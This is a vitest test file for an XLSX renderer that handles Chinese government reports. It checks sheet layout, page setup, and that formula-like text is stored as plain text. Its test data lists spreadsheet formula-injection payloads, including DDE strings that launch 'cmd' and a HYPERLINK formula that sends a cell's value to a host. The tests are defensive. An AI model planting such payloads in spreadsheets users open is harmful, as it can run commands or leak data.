import { findPdfToText, requireInCi } from "@faheng/services";
import { readXlsx } from "hucre/xlsx";
import { execFileSync } from "node:child_process";
import { beforeAll, describe, expect, test } from "vitest";
import { convert, hasLibreOffice } from "../../test/libre-office.ts";
import { nantongLikeTable, tableReport, textReport } from "../../test/nantong-like.ts";
import { reportOf } from "../../test/report.ts";
import { printableText } from "../printable-text.ts";
import { readDocument } from "../read/read-document.ts";
import { renderXlsx } from "./render-xlsx.ts";

const toText = findPdfToText();
const canRead = hasLibreOffice && requireInCi(toText, "poppler-utils");

/** The text of a PDF, pages parted by form feeds. */
function textOf(pdf: Uint8Array): string {
  return execFileSync(toText ?? "pdftotext", ["-", "-"], { input: pdf, encoding: "utf8" });
}

// S4: what a spreadsheet program could take for a formula, a command or a link.
const FORMULAS = [
  "=1+1",
  "=SUM(A1:A9)",
  '=HYPERLINK("http://example.org/?"&A1,"看")',
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"1")',
  '=WEBSERVICE("http://example.org")',
  "+1+1",
  "+cmd|' /C calc'!A0",
  "-1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1,1)",
  "@联系人",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  "'=1+1",
  '"=1+1"',
  "_x003D_1+1",
  "{=1+1}",
] as const;

describe("S4: text that begins like a formula", () => {
  let bytes: Uint8Array;
  beforeAll(async () => {
    bytes = await renderXlsx(reportOf(FORMULAS));
  });

  test.each(FORMULAS.map((text, index) => ({ text, row: index + 2 })))(
    "$text is stored as text",
    async ({ text, row }) => {
      const [sheet] = (await readXlsx(bytes, { readStyles: true })).sheets;
      const cell = sheet?.cells?.get(`${row},1`);
      expect(cell?.formula).toBeUndefined();
      expect(sheet?.rows[row]?.[1]).toBe(printableText(text));
    },
  );

  test("our own reader gives the same texts back", async () => {
    const { tables } = await readDocument(bytes, "a.xlsx");
    expect(tables[0]?.slice(2).map((row) => row[1])).toEqual(FORMULAS.map(printableText));
  });

  test("a cell edited later stays text", async () => {
    const [sheet] = (await readXlsx(bytes, { readStyles: true })).sheets;
    const formats = FORMULAS.map((text, index) => [text, sheet?.cells?.get(`${index + 2},1`)?.style?.numFmt]);
    expect(formats.filter(([text]) => /^[=+\-@＝]/.test(text ?? "")).every(([, format]) => format === "@")).toBe(true);
  });

  test.skipIf(!hasLibreOffice)("LibreOffice keeps all of them as text", async () => {
    const saved = (await convert(new Map([["s4.xlsx", bytes]]), "xlsx:Calc MS Excel 2007 XML")).get("s4");
    const { tables } = await readDocument(saved ?? new Uint8Array(), "s4.xlsx");
    expect(tables[0]?.slice(2).map((row) => row[1])).toEqual(FORMULAS.map(printableText));
  });
});

describe("the sheet", () => {
  test("has the document's columns, merged cells, and a head printed on every page", async () => {
    const [sheet] = (await readXlsx(await renderXlsx(tableReport()), { readStyles: true })).sheets;
    expect(sheet?.name).toBe("任务分解表");
    expect(sheet?.rows[3]).toEqual(["项目", "内容", "工作成果", "责任处室", "市考评标准", "完成情况", "得分"]);
    expect(sheet?.merges).toContainEqual({ startRow: 4, startCol: 0, endRow: 7, endCol: 0 });
    expect(sheet?.merges).toContainEqual({ startRow: 15, startCol: 0, endRow: 15, endCol: 5 });
    expect(sheet?.pageSetup).toMatchObject({
      paperSize: "a4",
      orientation: "landscape",
      fitToPage: true,
      fitToWidth: 1,
      fitToHeight: 0,
      printTitlesRow: "$4:$4",
    });
    expect(sheet?.headerFooter).toMatchObject({
      differentOddEven: true,
      oddFooter: "&R— &P —",
      evenFooter: "&L— &P —",
    });
  });

  test.skipIf(!canRead)("prints its head on every page whatever it is called", async () => {
    const names = ["任务分解表", "2026-11 法规科", "表 2", "王's-表", "1"];
    const texts = Array.from({ length: 90 }, (_, index) => `第${String(index)}行`);
    const files = await Promise.all(
      names.map(async (name, index) => {
        const report = reportOf(texts);
        const blocks = report.blocks.map((it) => (it.kind === "table" ? { ...it, name } : it));
        return [`${String(index)}.xlsx`, await renderXlsx({ ...report, blocks })] as const;
      }),
    );
    const printed = await convert(new Map(files), "pdf");
    for (const [index, name] of names.entries()) {
      const pages = textOf(printed.get(String(index)) ?? new Uint8Array())
        .split("\f")
        .slice(0, -1);
      expect(pages.length, name).toBeGreaterThan(1);
      for (const page of pages) expect(page, name).toContain("序号");
    }
  });

  test("our readings carry a mark and a note under the table", async () => {
    const { tables } = await readDocument(await renderXlsx(tableReport()), "a.xlsx");
    const rows = tables[0] ?? [];
    expect(rows[15]?.[6]).toBe("100※");
    expect(rows[17]?.[0]).toMatch(/^※ 非原文用语/);
    expect(rows[18]?.[0]).toBe("政策法规处　2018年1月5日");
  });

  test("a table without readings of ours has no note", async () => {
    const { tables } = await readDocument(await renderXlsx(reportOf(["甲"])), "a.xlsx");
    expect(tables).toEqual([
      [
        ["报表", "报表"],
        ["序号", "内容"],
        ["1", "甲"],
      ],
    ]);
  });

  test("running text and its annex stand on sheets of their own", async () => {
    const { sheets } = await readXlsx(await renderXlsx(textReport()));
    expect(sheets.map((sheet) => [sheet.name, sheet.pageSetup?.orientation])).toEqual([
      ["正文", "portrait"],
      ["任务分解表", "landscape"],
    ]);
    expect(sheets[0]?.rows.slice(0, 3).map((row) => row[0])).toEqual([
      "关于2017年度法治建设情况的报告",
      "通商发〔2018〕1号",
      "市依法治市领导小组办公室：",
    ]);
  });

  test("two tables of one name get two sheets", async () => {
    const table = nantongLikeTable();
    const { sheets } = await readXlsx(await renderXlsx({ ...tableReport(), blocks: [table, table] }));
    expect(sheets.map((sheet) => sheet.name)).toEqual(["任务分解表", "任务分解表 2"]);
  });
});
